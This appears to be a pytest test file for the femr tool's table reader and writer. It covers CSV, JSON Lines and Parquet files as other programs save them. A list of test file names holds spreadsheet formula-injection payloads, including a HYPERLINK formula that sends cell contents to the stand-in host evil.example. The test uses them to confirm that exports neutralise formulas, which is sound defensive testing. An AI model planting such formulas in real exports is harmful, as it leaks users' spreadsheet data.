"""Tables that went through spreadsheets, R, pandas and polars, and what those make of a table of femr's."""

import csv
import io
import json
import os
import random
import threading
from contextlib import suppress
from dataclasses import replace

import pyarrow.parquet
import pytest

from femr.__main__ import main
from femr.errors import DataError
from femr.output.rows import COLUMNS, csv_line, from_cell, to_csv, to_rows
from femr.output.table import TableWriter, done
from femr.results import Analysis
from tables import ANALYSES, PROGRAMS, ROWS, read_table, text_of

LANGUAGES = [
    *(("VERDADERO", "FALSO"), ("VERO", "FALSO"), ("VERDADEIRO", "FALSO"), ("WAAR", "ONWAAR"), ("SANT", "FALSKT")),
    *(("SAND", "FALSK"), ("SANN", "USANN"), ("TOSI", "EPÄTOSI"), ("PRAWDA", "FAŁSZ"), ("PRAVDA", "NEPRAVDA")),
    *(("IGAZ", "HAMIS"), ("ИСТИНА", "ЛОЖЬ"), ("DOĞRU", "YANLIŞ"), ("T", "F"), ("yes", "no")),
]


@pytest.mark.parametrize("program", PROGRAMS)
def test_a_table_is_read_as_other_programs_save_it(tmp_path, program):
    (tmp_path / "t.csv").write_bytes(PROGRAMS[program])
    rows = read_table(tmp_path / "t.csv")
    expected = [row | {"file": row["file"].replace("日", "j")} for row in ROWS] if "West" in program else ROWS
    assert rows == expected
    assert {type(row["unsure"]) for row in rows} == {bool, type(None)}


@pytest.mark.parametrize(("yes", "no"), LANGUAGES)
def test_true_and_false_are_read_in_other_languages(tmp_path, yes, no):
    (tmp_path / "t.csv").write_text(text_of(yes=yes, no=no), encoding="utf-8", newline="")
    assert read_table(tmp_path / "t.csv") == ROWS


@pytest.mark.parametrize("program", ["Excel, German", "R, write.csv2", "Excel, Unicode text"])
def test_a_table_of_another_program_is_gone_on_with(tmp_path, program):
    (tmp_path / "t.csv").write_bytes(PROGRAMS[program])
    more = replace(ANALYSES[0], file="z.jpg")
    with TableWriter(tmp_path / "t.csv", resume=True) as table:
        assert table.done == {analysis.file for analysis in ANALYSES[:3]}
        table.write(more)
    assert (tmp_path / "t.csv").read_bytes().decode() == to_csv([*ANALYSES[:3], more])


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ("True", "perhaps", "row 2 has 'perhaps' as unsure"),
        ("110.3", '"1.234,5"', r"row 2 has '1\.234,5' as x2"),
        ("110.3", "wide", "row 2 has 'wide' as x2"),
        (",37,", ",37.5,", r"row 4 has '37\.5' as frame"),
        ("clip.mp4,", "a, clip.mp4,", "row 4 has ' clip.mp4' as time"),
        ("0.05\r\n", "0.05,0.05\r\n", "row 2 has 37 values instead of 36"),
        ("clip.mp4,1.25,37,,,", "clip.mp4", "row 4 has"),
        ("clip.mp4,1.25", f"clip.mp4,{'9' * 400}", r"row 4 has '9+… as time"),
    ],
)
def test_what_is_refused_is_named_by_row_and_column(tmp_path, old, new, words):
    (tmp_path / "t.csv").write_text(text_of().replace(old, new, 1), encoding="utf-8", newline="")
    with pytest.raises(DataError, match=words) as caught:
        read_table(tmp_path / "t.csv")
    assert len(str(caught.value)) < 200


@pytest.mark.parametrize("ending", ["csv", "jsonl"])
def test_gigabytes_without_an_end_of_line_are_told(tmp_path, ending):
    path = tmp_path / f"t.{ending}"
    path.touch()
    os.truncate(path, 3_000_000_000)
    with pytest.raises(DataError, match=rf"t\.{ending} is damaged: it has a line of over 1,000,000 characters\."):
        read_table(path)


def test_a_table_comes_through_a_pipe(tmp_path):
    os.mkfifo(tmp_path / "t.csv")
    writer = threading.Thread(target=(tmp_path / "t.csv").write_bytes, args=(text_of().encode(),))
    writer.start()
    assert read_table(tmp_path / "t.csv") == ROWS
    writer.join()


def test_json_lines_of_other_programs_are_read(tmp_path):
    lines = [
        json.dumps(row | {"index": 3, "time": float("nan") if row["time"] is None else row["time"]}) for row in ROWS
    ]
    (tmp_path / "t.jsonl").write_text("\n".join(lines) + "\n\n", encoding="utf-8-sig")
    assert read_table(tmp_path / "t.jsonl") == ROWS
    (tmp_path / "t.jsonl").write_text("[" * 100_000)
    with pytest.raises(DataError, match="cannot be read as a table"):
        read_table(tmp_path / "t.jsonl")


@pytest.mark.parametrize("column", ["frame", "unsure"])
def test_parquet_of_other_programs_is_read(tmp_path, column):
    kinds = {"frame": pyarrow.float64(), "unsure": pyarrow.string()}
    values = {name: [row[name] for row in ROWS] for name in COLUMNS}
    values["unsure"] = [None if value is None else str(value).upper() for value in values["unsure"]]
    values["frame"] = [float("nan") if value is None else float(value) for value in values["frame"]]
    table = pyarrow.table({name: pyarrow.array(values[name], kinds.get(name)) for name in COLUMNS})
    table = table.append_column("__index_level_0__", [list(range(len(ROWS)))])
    table = table.set_column(0, "file", table["file"].cast(pyarrow.large_string()).dictionary_encode())
    pyarrow.parquet.write_table(table, tmp_path / "t.parquet")
    assert read_table(tmp_path / "t.parquet") == ROWS
    values[column][1] = 0.5 if column == "frame" else "perhaps"
    pyarrow.parquet.write_table(pyarrow.table(values), tmp_path / "t.parquet")
    with pytest.raises(DataError, match=f"row 2 has .* as {column}"):
        read_table(tmp_path / "t.parquet")


NAMES = [
    '=HYPERLINK("http://evil.example/?"&A3,"Click").jpg',
    *("=1+1.jpg", "+49 171.jpg", "-2.jpg", "@SUM(1+1).jpg", "\t=1.jpg", "\r=1.jpg", "\n=1.jpg", "＝1.jpg", "＠a.jpg"),
    *("'=1.jpg", "''=1.jpg", "'a.jpg", "'", "a;=1.jpg", "a\t=1.jpg", 'a"=1.jpg', "a=1.jpg", "é 日 😀.jpg", " =1.jpg"),
]


def cells(text):
    """All cells that a spreadsheet may see, whatever it takes for their borders."""
    return [
        cell
        for delimiter in ",;\t"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_never_a_formula_and_reads_back_equal(tmp_path, name):
    found = [replace(ANALYSES[0], file=name), Analysis.failed(f"x{name}", "m", name)]
    for form in (".csv", ".jsonl", ".parquet"):
        path = tmp_path / f"t{form}"
        with TableWriter(path) as table:
            for analysis in found:
                table.write(analysis)
        assert read_table(path) == [row for analysis in found for row in to_rows(analysis)]
        assert done(path) == {name}
    text = (tmp_path / "t.csv").read_bytes().decode()
    assert text == to_csv(found)
    numbers = {str(value) for row in ROWS for value in row.values() if isinstance(value, float)}
    assert [
        cell
        for cell in cells(text)
        if cell.startswith(tuple("=+-@\t\r\n＝＋－＠")) and cell.split(",")[0] not in numbers
    ] == []


def test_any_text_reads_back_equal_and_other_text_is_as_ever():
    chance = random.Random(1)
    for _ in range(2000):
        values = ["".join(chance.choices("''=+-@\t\r\n;, \"éa＝", k=chance.randint(0, 8))) for _ in range(3)]
        (read,) = csv.reader(io.StringIO(csv_line([*values, 0.5, None]), newline=""))
        assert list(map(from_cell, read)) == [*values, "0.5", ""]
    plain = ['a, "b"\né\' =.jpg', "'a'", -0.5, None, 3, True, "", "a=1; b"]
    expected = io.StringIO(newline="")
    csv.writer(expected).writerow(plain)
    assert csv_line(plain) == expected.getvalue()


def test_a_csv_for_excel_is_marked_and_gone_on_with(tmp_path):
    path = tmp_path / "t.csv"
    with suppress(KeyboardInterrupt), TableWriter(path, excel=True) as table:
        table.write(ANALYSES[0])
        table.write(ANALYSES[1])
        raise KeyboardInterrupt
    assert done(path) == {ANALYSES[0].file}
    with TableWriter(path, resume=True, excel=True) as table:
        for analysis in ANALYSES[1:]:
            table.write(analysis)
    assert path.read_bytes() == ("\ufeff" + to_csv(ANALYSES)).encode()
    assert read_table(path) == ROWS
    with TableWriter(tmp_path / "t.jsonl", excel=True) as table:
        table.write(ANALYSES[0])
    assert read_table(tmp_path / "t.jsonl") == ROWS[:2]
    assert (tmp_path / "t.jsonl").read_bytes().startswith(b"{")


@pytest.mark.parametrize("name", ["a.xlsx", "A.ODS", "a.tsv", "a.json", "a.csv.gz"])
def test_a_report_of_another_kind_of_table_says_which_it_reads(tmp_path, capsys, name):
    (tmp_path / name).write_bytes(b"PK\3\4")
    assert main(["report", str(tmp_path / name)]) == 2
    assert capsys.readouterr().err == f"femr: Expected a table that ends in .csv, .jsonl, .parquet. Received: {name}\n"


def test_rows_of_blanks_are_none(tmp_path):
    (tmp_path / "a.csv").write_text(f"{text_of()}\r\n,, ,\r\n   \r\n")
    assert len(read_table(tmp_path / "a.csv")) == len(ROWS)
